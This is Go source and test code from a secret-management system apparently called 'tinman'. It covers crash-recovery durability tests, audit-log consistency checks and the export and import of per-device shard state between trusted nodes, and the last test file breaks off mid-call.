func TestDomainMatchProperty(t *testing.T) {
	// Property: a domain never matches a pattern that is not a dot-separated
	// suffix of it.
	prop := func(a, b string) bool {
		if domainMatch(a, b) {
			if a == b {
				return true
			}
			return len(a) > len(b) && a[len(a)-len(b)-1] == '.' && a[len(a)-len(b):] == b
		}
		return true
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}
