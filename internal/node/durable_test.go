package node

import (
	"bytes"
	"context"
	"errors"
	"testing"
	"time"

	"tinman/internal/audit"
	"tinman/internal/cor"
	"tinman/internal/fault"
	"tinman/internal/policy"
	"tinman/internal/store"
)

// nodeTestSealer derives the vault sealing key once for the whole package
// (the KDF is deliberately slow).
var nodeTestSealer = func() *cor.Sealer {
	s, err := cor.NewSealer("node-store-pass", bytes.Repeat([]byte{0x5a}, cor.SaltLen))
	if err != nil {
		panic(err)
	}
	return s
}()

func openNodeStore(t testing.TB, fs *fault.CrashFS) *store.Store {
	t.Helper()
	st, err := store.Open(store.Options{Dir: "store", FS: fs, Sealer: nodeTestSealer})
	if err != nil {
		t.Fatalf("open store: %v", err)
	}
	return st
}

// testClock returns a deterministic clock; sharing one across the services
// of a crash-recover run keeps audit timestamps comparable with a control
// run that performs the identical operation sequence.
func testClock() func() time.Time {
	at := time.Unix(0, 0)
	return func() time.Time { at = at.Add(time.Second); return at }
}

// durableService builds a fresh Service attached to st.
func durableService(t testing.TB, st *store.Store, clock func() time.Time) *Service {
	t.Helper()
	svc := New(Options{Clock: clock, MalwareSeed: -1})
	if err := svc.AttachStore(context.Background(), st); err != nil {
		t.Fatalf("attach store: %v", err)
	}
	return svc
}

// auditWire renders the audit log in canonical persistence form.
func auditWire(t testing.TB, entries []audit.Entry) []string {
	t.Helper()
	out := make([]string, len(entries))
	for i, e := range entries {
		b, err := e.WireJSON()
		if err != nil {
			t.Fatal(err)
		}
		out[i] = string(b)
	}
	return out
}

// TestDurableNodeRoundTrip drives every durable mutation class through the
// Service — register/generate/derive cors, an offload that mints a derived
// cor, reseals, bind/revoke/restore — then kills the node and recovers a
// fresh Service from the store. The recovered node must present the same
// catalog, plaintexts, policy decisions, and audit trail, resume per-device
// sequences gap-free, and leave no cor plaintext on disk.
func TestDurableNodeRoundTrip(t *testing.T) {
	ctx := context.Background()
	fs := fault.NewCrashFS(7)
	st := openNodeStore(t, fs)
	svc := durableService(t, st, testClock())

	if _, err := svc.RegisterCor(ctx, "pw", "hunter2!", "bank password", "bank.com"); err != nil {
		t.Fatal(err)
	}
	gen, err := svc.GenerateCor(ctx, "gen", "minted on node", 12, "shop.com")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := svc.DeriveNamed(ctx, "pw", "pw-hash", "sha256-hex"); err != nil {
		t.Fatal(err)
	}

	dev := newDeviceHalf(t, svc, "dev-1", "login", loginSrc)
	hash := dev.install(t, svc, loginSrc)
	if err := svc.BindApp("pw", hash); err != nil {
		t.Fatal(err)
	}
	// The offload mints a derived cor through the resolver's MaskID path.
	masked, err := dev.login(t, svc, "pw")
	if err != nil {
		t.Fatal(err)
	}
	if masked.CorID == "" {
		t.Fatal("login result not masked")
	}
	derived := svc.Cors.Get(masked.CorID)
	if derived == nil {
		t.Fatalf("derived cor %q not in store", masked.CorID)
	}
	resealOnce(t, svc, "dev-1", hash)
	resealOnce(t, svc, "dev-1", hash)
	if err := svc.Revoke("dev-2"); err != nil {
		t.Fatal(err)
	}

	wantCors := svc.Cors.Len()
	wantAudit := auditWire(t, svc.Audit.Entries())
	info, ok := svc.Shard("dev-1")
	if !ok || info.AuditSeq == 0 {
		t.Fatalf("dev-1 shard: %+v ok=%v", info, ok)
	}

	// Kill the node. Every acknowledged mutation must already be durable.
	fs.CrashNow()
	fs.Restart()

	st2 := openNodeStore(t, fs)
	svc2 := durableService(t, st2, testClock())

	if got := svc2.Cors.Len(); got != wantCors {
		t.Fatalf("recovered %d cors, want %d", got, wantCors)
	}
	for _, id := range []string{"pw", "gen", "pw-hash", masked.CorID} {
		was, is := svc.Cors.Get(id), svc2.Cors.Get(id)
		if is == nil {
			t.Fatalf("cor %q lost in recovery", id)
		}
		if is.Plaintext != was.Plaintext || is.Bit != was.Bit || is.Placeholder != was.Placeholder {
			t.Fatalf("cor %q diverged: %+v vs %+v", id, is, was)
		}
	}
	if gotAudit := auditWire(t, svc2.Audit.Entries()); len(gotAudit) != len(wantAudit) {
		t.Fatalf("recovered %d audit entries, want %d", len(gotAudit), len(wantAudit))
	} else {
		for i := range wantAudit {
			if gotAudit[i] != wantAudit[i] {
				t.Fatalf("audit entry %d diverged:\n%s\n%s", i, gotAudit[i], wantAudit[i])
			}
		}
	}

	// Policy survives: the revocation still bites, the binding still allows.
	raw, _ := sessionState(t)
	if _, err := svc2.Reseal(ctx, ResealRequest{
		CorID: "pw", AppHash: hash, DeviceID: "dev-2", Domain: "bank.com", State: raw,
	}); !errors.Is(err, policy.ErrDenied) {
		t.Fatalf("revoked device after recovery: %v, want denial", err)
	}
	resealOnce(t, svc2, "dev-1", hash)

	// The per-device audit sequence resumes gap-free past the crash.
	entries := svc2.Audit.Entries()
	last := entries[len(entries)-1]
	if last.DeviceID != "dev-1" || last.DeviceSeq != info.AuditSeq+1 {
		t.Fatalf("post-recovery DeviceSeq = %d (device %s), want %d",
			last.DeviceSeq, last.DeviceID, info.AuditSeq+1)
	}

	// The whitelist survives as policy state too.
	if gen.Whitelist[0] != "shop.com" {
		t.Fatalf("generated whitelist = %v", gen.Whitelist)
	}

	// No cor plaintext on disk — not the registered, generated, derived, or
	// node-minted secrets.
	secrets := []string{"hunter2!", gen.Plaintext, svc.Cors.Get("pw-hash").Plaintext, derived.Plaintext}
	if hits := fault.ScanForPlaintext(fs.DiskBytes(), secrets); len(hits) != 0 {
		t.Fatalf("cor plaintext on disk: %v", hits)
	}
}

// TestDurableNodeRecoveryIdempotent is the node-level recover → append →
// crash → recover-again check: the twice-crashed node's audit log and
// anomaly rescan must be identical to a control node that ran the same
// operations without ever crashing.
func TestDurableNodeRecoveryIdempotent(t *testing.T) {
	ctx := context.Background()

	// phase1 registers state and produces a burst of denials (anomaly
	// material); phase2 appends more work after the first recovery.
	phase1 := func(svc *Service) (hash string) {
		t.Helper()
		if _, err := svc.RegisterCor(ctx, "pw", "hunter2!", "bank password", "bank.com"); err != nil {
			t.Fatal(err)
		}
		dev := newDeviceHalf(t, svc, "dev-1", "login", loginSrc)
		hash = dev.install(t, svc, loginSrc)
		if err := svc.BindApp("pw", hash); err != nil {
			t.Fatal(err)
		}
		resealOnce(t, svc, "dev-1", hash)
		if err := svc.Revoke("dev-1"); err != nil {
			t.Fatal(err)
		}
		raw, _ := sessionState(t)
		for i := 0; i < 4; i++ {
			if _, err := svc.Reseal(ctx, ResealRequest{
				CorID: "pw", AppHash: hash, DeviceID: "dev-1", Domain: "bank.com", State: raw,
			}); !errors.Is(err, policy.ErrDenied) {
				t.Fatalf("revoked reseal %d: %v", i, err)
			}
		}
		return hash
	}
	phase2 := func(svc *Service, hash string) {
		t.Helper()
		if err := svc.Restore("dev-1"); err != nil {
			t.Fatal(err)
		}
		resealOnce(t, svc, "dev-1", hash)
		resealOnce(t, svc, "dev-1", hash)
	}

	// Control: never crashes. Note sessionState is rebuilt per phase in both
	// runs, so RSA jitter does not enter the audit trail.
	control := New(Options{Clock: testClock(), MalwareSeed: -1})
	hash := phase1(control)
	phase2(control, hash)

	// Crashed run: one shared clock across all recoveries, so the operation
	// sequence stamps identical times to the control run.
	fs := fault.NewCrashFS(11)
	clock := testClock()
	svc := durableService(t, openNodeStore(t, fs), clock)
	hash2 := phase1(svc)
	if hash2 != hash {
		t.Fatalf("app hash diverged: %s vs %s", hash2, hash)
	}
	fs.CrashNow()
	fs.Restart()

	svc = durableService(t, openNodeStore(t, fs), clock)
	phase2(svc, hash)
	fs.CrashNow()
	fs.Restart()

	svc = durableService(t, openNodeStore(t, fs), clock)

	wantLog, gotLog := auditWire(t, control.Audit.Entries()), auditWire(t, svc.Audit.Entries())
	if len(wantLog) != len(gotLog) {
		t.Fatalf("audit length %d, control %d", len(gotLog), len(wantLog))
	}
	for i := range wantLog {
		if wantLog[i] != gotLog[i] {
			t.Fatalf("audit entry %d diverged:\n got %s\nwant %s", i, gotLog[i], wantLog[i])
		}
	}
	want, got := control.Audit.Anomalies(), svc.Audit.Anomalies()
	if len(want) == 0 {
		t.Fatal("control produced no anomalies; comparison is vacuous")
	}
	if len(want) != len(got) {
		t.Fatalf("anomalies %d, control %d", len(got), len(want))
	}
	for i := range want {
		w, g := want[i], got[i]
		if !w.Time.Equal(g.Time) || w.DeviceID != g.DeviceID || w.CorID != g.CorID ||
			w.Denials != g.Denials || w.Window != g.Window {
			t.Fatalf("anomaly %d diverged: %+v vs %+v", i, g, w)
		}
	}
}

// TestDurableNodeCrashSweep kills the node at every filesystem operation
// of a reseal workload. After each crash the recovered audit log must be a
// bit-identical prefix of the fault-free control's log with a gap-free Seq,
// and the disk must never hold cor plaintext.
func TestDurableNodeCrashSweep(t *testing.T) {
	ctx := context.Background()
	const reseals = 6

	// Control run, fault-free.
	controlFS := fault.NewCrashFS(17)
	setup := func(fs *fault.CrashFS, clock func() time.Time) (*Service, string) {
		svc := durableService(t, openNodeStore(t, fs), clock)
		if _, err := svc.RegisterCor(ctx, "pw", "hunter2!", "bank password", "bank.com"); err != nil {
			t.Fatal(err)
		}
		dev := newDeviceHalf(t, svc, "dev-1", "login", loginSrc)
		hash := dev.install(t, svc, loginSrc)
		if err := svc.BindApp("pw", hash); err != nil {
			t.Fatal(err)
		}
		return svc, hash
	}
	raw, _ := sessionState(t)
	workload := func(svc *Service, hash string) error {
		for i := 0; i < reseals; i++ {
			if _, err := svc.Reseal(ctx, ResealRequest{
				CorID: "pw", AppHash: hash, DeviceID: "dev-1", Domain: "bank.com", State: raw,
			}); err != nil {
				return err
			}
		}
		return nil
	}
	control, hash := setup(controlFS, testClock())
	if err := workload(control, hash); err != nil {
		t.Fatal(err)
	}
	wantLog := auditWire(t, control.Audit.Entries())

	for crashAt := 0; ; crashAt++ {
		fs := fault.NewCrashFS(17)
		svc, h := setup(fs, testClock())
		fs.CrashAfter(crashAt)
		err := workload(svc, h)
		if !fs.Crashed() {
			if err != nil {
				t.Fatalf("crashAt=%d: workload failed without crash: %v", crashAt, err)
			}
			break // swept past the whole workload
		}
		fs.Restart()

		rec := durableService(t, openNodeStore(t, fs), testClock())
		gotLog := auditWire(t, rec.Audit.Entries())
		if len(gotLog) > len(wantLog) {
			t.Fatalf("crashAt=%d: recovered %d entries, control has %d", crashAt, len(gotLog), len(wantLog))
		}
		for i, e := range rec.Audit.Entries() {
			if e.Seq != uint64(i+1) {
				t.Fatalf("crashAt=%d: Seq gap at %d: %d", crashAt, i, e.Seq)
			}
			if gotLog[i] != wantLog[i] {
				t.Fatalf("crashAt=%d: entry %d diverged:\n got %s\nwant %s", crashAt, i, gotLog[i], wantLog[i])
			}
		}
		if hits := fault.ScanForPlaintext(fs.DiskBytes(), []string{"hunter2!"}); len(hits) != 0 {
			t.Fatalf("crashAt=%d: cor plaintext on disk: %v", crashAt, hits)
		}
	}
}
