package node

import (
	"context"
	"encoding/json"
	"fmt"
	"sort"
	"sync"
	"sync/atomic"

	"tinman/internal/audit"
	"tinman/internal/policy"
	"tinman/internal/tlssim"
)

// ShardPhase is the lifecycle state of a DeviceShard.
//
// The state machine (see DESIGN.md §fleet):
//
//	Attached --BeginDrain--> Draining --DetachShard--> Detached (exported)
//	Attached --DetachShard-----------------------------^
//	(fresh)  <--ImportShard/auto-attach-- Detached export on another node
//
// Attached serves requests; Draining lets in-flight operations finish while
// refusing new ones; Detached shards are gone from the service — their
// state lives only in the ShardExport handed to the caller.
type ShardPhase int

const (
	// ShardAttached is the normal serving state.
	ShardAttached ShardPhase = iota
	// ShardDraining refuses new operations while in-flight ones complete.
	ShardDraining
	// ShardDetached marks a shard that has been exported and removed.
	ShardDetached
)

func (p ShardPhase) String() string {
	switch p {
	case ShardAttached:
		return "attached"
	case ShardDraining:
		return "draining"
	default:
		return "detached"
	}
}

// DeviceShard is the movable unit of per-device trusted-node state: the
// hosted apps (and their VMs/monitors/DSM endpoints), the armed SSL
// injections, the parsed-session-state cache, the at-most-once replay
// window, the derived-cor mint counter and the per-device audit sequence.
// A Service owns one shard per active device; the fleet layer detaches,
// exports, imports and re-attaches shards to move a device between nodes.
//
// The shard's own mutex guards its tables; the per-device audit sequence
// is atomic so audit appends never serialize on the shard lock.
type DeviceShard struct {
	deviceID string

	mu       sync.Mutex
	cond     *sync.Cond // signaled when inflight drops; DetachShard waits on it
	phase    ShardPhase
	inflight int

	apps       map[string]*hostedApp
	injections map[InjectionKey]*pendingInjection
	derivedSeq int
	// derived records the cors minted for this device (ID + parent), in
	// mint order, so an export can carry the device's derived secrets to
	// the importing node.
	derived []derivedCor

	states  stateCache
	replays *ReplayCache

	auditSeq atomic.Uint64
}

type derivedCor struct {
	ID     string `json:"id"`
	Parent string `json:"parent"`
}

func newShard(deviceID string, replayCfg ReplayCacheConfig) *DeviceShard {
	sh := &DeviceShard{
		deviceID:   deviceID,
		apps:       make(map[string]*hostedApp),
		injections: make(map[InjectionKey]*pendingInjection),
		replays:    NewReplayCache(replayCfg),
	}
	sh.cond = sync.NewCond(&sh.mu)
	return sh
}

// enter registers an in-flight operation; it fails once the shard is
// draining or detached so a drain can quiesce.
func (sh *DeviceShard) enter() error {
	sh.mu.Lock()
	defer sh.mu.Unlock()
	if sh.phase != ShardAttached {
		return errf(ErrShardDraining, "device %q is %s on this node", sh.deviceID, sh.phase)
	}
	sh.inflight++
	return nil
}

// exit retires an in-flight operation and wakes a waiting drain.
func (sh *DeviceShard) exit() {
	sh.mu.Lock()
	sh.inflight--
	if sh.inflight == 0 {
		sh.cond.Broadcast()
	}
	sh.mu.Unlock()
}

// nextAuditSeq mints the next per-device audit sequence number.
func (sh *DeviceShard) nextAuditSeq() uint64 { return sh.auditSeq.Add(1) }

// ShardInfo is an observable snapshot of one shard (fleet admin, tests).
type ShardInfo struct {
	DeviceID     string
	Phase        ShardPhase
	Apps         int
	Injections   int
	CachedStates int
	ReplayWindow int
	DerivedSeq   int
	AuditSeq     uint64
}

// --- serializable export ---

// ShardExport is the wire form of a detached shard: everything another
// trusted node needs to resume serving the device. Both ends of a handoff
// are trusted nodes (§2.5), so the export may carry derived-cor plaintext
// and armed session state; it must only ever travel node-to-node over the
// fleet control plane, never to a device.
//
// VM heap state is deliberately not exported: apps are re-installed from
// source on the importing node and the device's DSM re-warms on its next
// offload (the same warm-up reset path PR 4's failed-offload handling
// uses), so an export stays small and deterministic. Speculative warm-up
// epochs (dsm/warmup.go) are likewise *explicitly dropped*, never carried:
// a rebalanced device must not resume against another node's possibly-stale
// warm heap, so the importing node starts with no warm state and any
// warm-path migration that chases the handoff fails ErrWarmStale into the
// cold-path fallback.
type ShardExport struct {
	DeviceID string `json:"device_id"`
	// AuditSeq is the last minted per-device audit sequence number; the
	// importing shard continues from it, keeping the merged per-device
	// audit stream gap-free across the move.
	AuditSeq   uint64 `json:"audit_seq"`
	DerivedSeq int    `json:"derived_seq"`

	Apps        []AppExport       `json:"apps,omitempty"`
	Injections  []InjectionExport `json:"injections,omitempty"`
	DerivedCors []CorExport       `json:"derived_cors,omitempty"`
	Replays     []ReplayRecord    `json:"replays,omitempty"`
}

// AppExport carries one hosted app's identity; the importer re-assembles
// and re-verifies the source exactly like a fresh Install.
type AppExport struct {
	Name                  string   `json:"name"`
	Source                string   `json:"source"`
	NonOffloadableNatives []string `json:"non_offloadable_natives,omitempty"`
}

// InjectionExport carries one armed one-shot payload replacement.
type InjectionExport struct {
	Key     InjectionKey    `json:"key"`
	AppHash string          `json:"app_hash"`
	CorID   string          `json:"cor_id"`
	Domain  string          `json:"domain"`
	State   json.RawMessage `json:"state"`
}

// CorExport carries one derived cor minted for the device. The parent must
// already exist on the importing node (registered cors are replicated
// fleet-wide by the control plane).
type CorExport struct {
	ID        string `json:"id"`
	Parent    string `json:"parent"`
	Plaintext string `json:"plaintext"`
}

// Encode marshals the export for the handoff control plane.
func (e *ShardExport) Encode() ([]byte, error) { return json.Marshal(e) }

// DecodeShardExport parses a handoff payload.
func DecodeShardExport(data []byte) (*ShardExport, error) {
	var e ShardExport
	if err := json.Unmarshal(data, &e); err != nil {
		return nil, fmt.Errorf("node: bad shard export: %v", err)
	}
	if e.DeviceID == "" {
		return nil, fmt.Errorf("node: shard export missing device_id")
	}
	return &e, nil
}

// --- Service-level shard lifecycle ---

// lookupShard returns the attached shard, or nil.
func (s *Service) lookupShard(deviceID string) *DeviceShard {
	s.mu.RLock()
	defer s.mu.RUnlock()
	return s.shards[deviceID]
}

// shard returns the device's shard, attaching a fresh one on first touch.
func (s *Service) shard(deviceID string) *DeviceShard {
	if sh := s.lookupShard(deviceID); sh != nil {
		return sh
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	if sh := s.shards[deviceID]; sh != nil {
		return sh
	}
	sh := newShard(deviceID, s.replayCfg)
	s.shards[deviceID] = sh
	return sh
}

// shardEnter is the per-device operation prologue: resolve (auto-attaching)
// and register in-flight. Callers must sh.exit() when done. A successful
// enter holds inflight>0, which blocks DetachShard from completing, so the
// shard stays attached for the operation's duration.
func (s *Service) shardEnter(deviceID string) (*DeviceShard, error) {
	sh := s.shard(deviceID)
	if err := sh.enter(); err != nil {
		// A draining shard stays in the map until DetachShard removes it;
		// report the state rather than racing the drain.
		return nil, err
	}
	return sh, nil
}

// AttachShard ensures a (possibly fresh) shard exists for the device and
// reports whether it created one. auditSeqFloor, when non-zero, raises the
// per-device audit sequence to at least that value — the fleet uses it to
// keep the stream gap-free when failing over a device whose previous
// owner's shard was lost in a crash. The same floor raises the derived-ID
// counter: every mint is preceded by at least one audited access, so
// derivedSeq ≤ auditSeq always holds, making the audit watermark a
// conservative bound that keeps post-failover mints collision-free.
func (s *Service) AttachShard(deviceID string, auditSeqFloor uint64) (created bool) {
	s.mu.Lock()
	sh := s.shards[deviceID]
	if sh == nil {
		sh = newShard(deviceID, s.replayCfg)
		s.shards[deviceID] = sh
		created = true
	}
	s.mu.Unlock()
	sh.mu.Lock()
	if sh.derivedSeq < int(auditSeqFloor) {
		sh.derivedSeq = int(auditSeqFloor)
	}
	sh.mu.Unlock()
	for {
		cur := sh.auditSeq.Load()
		if cur >= auditSeqFloor || sh.auditSeq.CompareAndSwap(cur, auditSeqFloor) {
			return created
		}
	}
}

// BeginDrain moves the device's shard to Draining: in-flight operations
// finish, new ones are refused with ErrShardDraining. A missing shard is a
// no-op (there is nothing to drain).
func (s *Service) BeginDrain(deviceID string) {
	sh := s.lookupShard(deviceID)
	if sh == nil {
		return
	}
	sh.mu.Lock()
	if sh.phase == ShardAttached {
		sh.phase = ShardDraining
	}
	sh.mu.Unlock()
}

// DetachShard quiesces, serializes and removes the device's shard. The
// returned export carries everything the importing node needs; the local
// shard (including its session-state cache — the pre-shard Service leaked
// those entries forever) is discarded wholesale.
func (s *Service) DetachShard(deviceID string) (*ShardExport, error) {
	sh := s.lookupShard(deviceID)
	if sh == nil {
		return nil, errf(ErrUnknownDevice, "no shard for device %q", deviceID)
	}
	sh.mu.Lock()
	if sh.phase == ShardDetached {
		sh.mu.Unlock()
		return nil, errf(ErrUnknownDevice, "shard for device %q already detached", deviceID)
	}
	sh.phase = ShardDraining
	for sh.inflight > 0 {
		sh.cond.Wait()
	}
	sh.phase = ShardDetached

	exp := &ShardExport{
		DeviceID:   deviceID,
		AuditSeq:   sh.auditSeq.Load(),
		DerivedSeq: sh.derivedSeq,
	}
	names := make([]string, 0, len(sh.apps))
	for name := range sh.apps {
		names = append(names, name)
	}
	sort.Strings(names)
	for _, name := range names {
		app := sh.apps[name]
		// Warm-up epochs never travel in an export (see ShardExport): drop
		// them with the shard so a torn or completed warm-up can only be
		// consumed on the node that actually received its chunks. The shard
		// is quiesced (inflight == 0), so touching the endpoint is safe.
		app.ep.DropWarmup()
		exp.Apps = append(exp.Apps, AppExport{
			Name:                  name,
			Source:                app.source,
			NonOffloadableNatives: app.natives,
		})
	}
	for key, inj := range sh.injections {
		exp.Injections = append(exp.Injections, InjectionExport{
			Key: key, AppHash: inj.appHash, CorID: inj.corID,
			Domain: inj.domain, State: inj.raw,
		})
	}
	sort.Slice(exp.Injections, func(i, j int) bool {
		return injectionKeyLess(exp.Injections[i].Key, exp.Injections[j].Key)
	})
	for _, d := range sh.derived {
		if rec := s.Cors.Get(d.ID); rec != nil {
			exp.DerivedCors = append(exp.DerivedCors, CorExport{
				ID: d.ID, Parent: d.Parent, Plaintext: rec.Plaintext,
			})
		}
	}
	exp.Replays = sh.replays.Export()
	keys := make([]InjectionKey, 0, len(sh.injections))
	for k := range sh.injections {
		keys = append(keys, k)
	}
	sh.mu.Unlock()

	s.mu.Lock()
	delete(s.shards, deviceID)
	for _, k := range keys {
		delete(s.flows, k)
	}
	s.mu.Unlock()
	return exp, nil
}

// ImportShard attaches a shard from another node's export: apps are
// re-assembled and re-verified like a fresh install, derived cors are
// re-minted under their exported IDs, armed injections re-armed, and the
// replay window, derived-ID counter and per-device audit sequence resume
// where the exporter stopped. Importing over an existing shard for the
// device fails — the fleet must detach first.
func (s *Service) ImportShard(ctx context.Context, exp *ShardExport) error {
	if err := ctx.Err(); err != nil {
		return err
	}
	if exp == nil || exp.DeviceID == "" {
		return errf(ErrBadRequest, "shard import missing device ID")
	}
	sh := newShard(exp.DeviceID, s.replayCfg)
	sh.auditSeq.Store(exp.AuditSeq)
	sh.derivedSeq = exp.DerivedSeq

	for _, d := range exp.DerivedCors {
		if s.Cors.Get(d.ID) != nil {
			sh.derived = append(sh.derived, derivedCor{ID: d.ID, Parent: d.Parent})
			continue // already present (e.g. round-tripped back)
		}
		if _, err := s.Cors.Derive(d.Parent, d.ID, d.Plaintext); err != nil {
			return errf(ErrBadRequest, "importing derived cor %s: %v", d.ID, err)
		}
		if err := s.durVaultRec(d.ID); err != nil {
			return err
		}
		sh.derived = append(sh.derived, derivedCor{ID: d.ID, Parent: d.Parent})
	}
	for _, a := range exp.Apps {
		app, err := s.buildApp(InstallRequest{
			DeviceID:              exp.DeviceID,
			Name:                  a.Name,
			Source:                a.Source,
			NonOffloadableNatives: a.NonOffloadableNatives,
		})
		if err != nil {
			return fmt.Errorf("node: importing app %s for %s: %w", a.Name, exp.DeviceID, err)
		}
		sh.apps[a.Name] = app
	}
	for _, inj := range exp.Injections {
		st, err := tlssim.UnmarshalState(inj.State)
		if err != nil {
			return errf(ErrBadRequest, "importing injection for %s: %v", exp.DeviceID, err)
		}
		sh.injections[inj.Key] = &pendingInjection{
			appHash: inj.AppHash, deviceID: exp.DeviceID,
			corID: inj.CorID, domain: inj.Domain, state: st, raw: inj.State,
		}
	}
	sh.replays.Import(exp.Replays)

	s.mu.Lock()
	defer s.mu.Unlock()
	if s.shards[exp.DeviceID] != nil {
		return errf(ErrBadRequest, "device %q already has a shard on this node", exp.DeviceID)
	}
	s.shards[exp.DeviceID] = sh
	for _, inj := range exp.Injections {
		s.flows[inj.Key] = exp.DeviceID
	}
	return nil
}

// Devices lists the devices with attached (or draining) shards, sorted.
func (s *Service) Devices() []string {
	s.mu.RLock()
	out := make([]string, 0, len(s.shards))
	for id := range s.shards {
		out = append(out, id)
	}
	s.mu.RUnlock()
	sort.Strings(out)
	return out
}

// Shard reports a snapshot of the device's shard; ok is false when the
// device has none.
func (s *Service) Shard(deviceID string) (ShardInfo, bool) {
	sh := s.lookupShard(deviceID)
	if sh == nil {
		return ShardInfo{}, false
	}
	sh.mu.Lock()
	info := ShardInfo{
		DeviceID:     deviceID,
		Phase:        sh.phase,
		Apps:         len(sh.apps),
		Injections:   len(sh.injections),
		CachedStates: sh.states.len(),
		ReplayWindow: sh.replays.Len(),
		DerivedSeq:   sh.derivedSeq,
		AuditSeq:     sh.auditSeq.Load(),
	}
	sh.mu.Unlock()
	return info, true
}

// ReplayDo routes an at-most-once execution through the device's replay
// window (attaching the shard on first touch); deviceID "" uses the
// service-global window for admin operations. replayed reports a dedup
// hit. The recorded value may come back as ReplayedRaw when the window
// crossed a node handoff — see ReplayCache.Import.
func (s *Service) ReplayDo(deviceID, reqID string, fn func() any) (val any, replayed bool) {
	if deviceID == "" {
		return s.adminReplays.Do(reqID, fn)
	}
	return s.shard(deviceID).replays.Do(reqID, fn)
}

// auditAppend writes an audit entry stamped with the device's next
// per-device sequence number (0 when the entry has no device) and the
// engine's current policy version/hash. With a store attached, the entry is
// WAL-logged and fsynced before auditAppend returns, so operations
// acknowledge only durable audit trail.
func (s *Service) auditAppend(appHash, corID, deviceID, domain string, outcome audit.Outcome, detail string) error {
	return s.auditAppendStamped(s.Policy.Stamp(), appHash, corID, deviceID, domain, outcome, detail)
}

// auditAppendStamped is auditAppend carrying the exact policy stamp the
// decision was made under. Paths that ran a check pass the stamp
// CheckStamped returned, so during a hot-reload the entry names the version
// actually consulted, not whichever one is current at append time.
func (s *Service) auditAppendStamped(st policy.Stamp, appHash, corID, deviceID, domain string, outcome audit.Outcome, detail string) error {
	e := audit.Entry{
		AppHash: appHash, CorID: corID, DeviceID: deviceID, Domain: domain,
		Outcome: outcome, Detail: detail,
		PolicyVersion: st.Version, PolicyHash: st.Hash,
	}
	if dur := s.durStore(); dur != nil {
		return s.auditAppendDurable(dur, e)
	}
	if deviceID != "" {
		e.DeviceSeq = s.shard(deviceID).nextAuditSeq()
	}
	s.Audit.AppendEntry(e)
	return nil
}

// injectionKeyLess orders injection keys for deterministic exports.
func injectionKeyLess(a, b InjectionKey) bool {
	if a.ClientAddr != b.ClientAddr {
		return a.ClientAddr < b.ClientAddr
	}
	if a.ClientPort != b.ClientPort {
		return a.ClientPort < b.ClientPort
	}
	if a.ServerAddr != b.ServerAddr {
		return a.ServerAddr < b.ServerAddr
	}
	return a.ServerPort < b.ServerPort
}
