package node

import (
	"context"
	"errors"
	"sort"
	"strings"
	"testing"

	"tinman/internal/audit"
)

// resealOnce drives one Reseal for the device so its shard caches a parsed
// session state.
func resealOnce(t testing.TB, svc *Service, deviceID, appHash string) {
	t.Helper()
	raw, _ := sessionState(t)
	out, err := svc.Reseal(context.Background(), ResealRequest{
		CorID: "pw", AppHash: appHash, DeviceID: deviceID,
		Domain: "bank.com", State: raw,
	})
	if err != nil {
		t.Fatalf("reseal: %v", err)
	}
	if len(out) == 0 {
		t.Fatal("empty resealed record")
	}
}

// TestShardDetachEvictsStateCache is the regression test for the state-cache
// leak: before sharding, parsed session states for departed devices lived in
// one Service-global cache forever. Now they live in the shard and vanish
// with it on detach.
func TestShardDetachEvictsStateCache(t *testing.T) {
	ctx := context.Background()
	svc := New(Options{})
	if _, err := svc.RegisterCor(ctx, "pw", "hunter2!", "pw", "bank.com"); err != nil {
		t.Fatal(err)
	}
	dev := newDeviceHalf(t, svc, "dev-1", "login", loginSrc)
	hash := dev.install(t, svc, loginSrc)
	svc.BindApp("pw", hash)

	resealOnce(t, svc, "dev-1", hash)
	info, ok := svc.Shard("dev-1")
	if !ok || info.CachedStates == 0 {
		t.Fatalf("expected cached session state, got %+v ok=%v", info, ok)
	}

	if _, err := svc.DetachShard("dev-1"); err != nil {
		t.Fatal(err)
	}
	if _, ok := svc.Shard("dev-1"); ok {
		t.Fatal("shard still present after detach")
	}
	// A returning device starts from a fresh shard: no stale cache entries.
	svc.AttachShard("dev-1", 0)
	info, ok = svc.Shard("dev-1")
	if !ok || info.CachedStates != 0 {
		t.Fatalf("fresh shard after detach: %+v ok=%v", info, ok)
	}
}

// TestShardDrainRefusesNewWork checks the Draining phase: in-flight work is
// unaffected, new per-device operations fail with ErrShardDraining.
func TestShardDrainRefusesNewWork(t *testing.T) {
	ctx := context.Background()
	svc := New(Options{})
	if _, err := svc.RegisterCor(ctx, "pw", "hunter2!", "pw", "bank.com"); err != nil {
		t.Fatal(err)
	}
	dev := newDeviceHalf(t, svc, "dev-1", "login", loginSrc)
	hash := dev.install(t, svc, loginSrc)
	svc.BindApp("pw", hash)

	svc.BeginDrain("dev-1")
	if _, err := dev.login(t, svc, "pw"); !errors.Is(err, ErrShardDraining) {
		t.Fatalf("offload on draining shard: err = %v, want ErrShardDraining", err)
	}
	raw, _ := sessionState(t)
	if _, err := svc.Reseal(ctx, ResealRequest{
		CorID: "pw", AppHash: hash, DeviceID: "dev-1", Domain: "bank.com", State: raw,
	}); !errors.Is(err, ErrShardDraining) {
		t.Fatalf("reseal on draining shard: err = %v, want ErrShardDraining", err)
	}
}

// TestShardExportImportRoundTrip moves a live device between two Services
// and checks the importing node resumes everything: hosted app, derived
// cors (with plaintext), armed injection, and the derived-ID counter.
func TestShardExportImportRoundTrip(t *testing.T) {
	ctx := context.Background()
	src := New(Options{})
	dst := New(Options{})
	// Registered cors are replicated fleet-wide by the control plane; model
	// that by registering the parent on both nodes.
	for _, svc := range []*Service{src, dst} {
		if _, err := svc.RegisterCor(ctx, "pw", "hunter2!", "pw", "bank.com"); err != nil {
			t.Fatal(err)
		}
	}

	dev := newDeviceHalf(t, src, "dev-1", "login", loginSrc)
	hash := dev.install(t, src, loginSrc)
	src.BindApp("pw", hash)
	dst.BindApp("pw", hash)

	// Mint a derived cor on the source node.
	req, err := dev.login(t, src, "pw")
	if err != nil {
		t.Fatal(err)
	}
	if src.Cors.Get(req.CorID) == nil {
		t.Fatalf("derived cor %q not in source vault", req.CorID)
	}

	// Arm a one-shot injection on the source node.
	raw, origin := sessionState(t)
	key := InjectionKey{ClientAddr: "10.0.0.2", ClientPort: 4242, ServerAddr: "93.184.216.34", ServerPort: 443}
	if err := src.ArmInjection(ctx, InjectRequest{
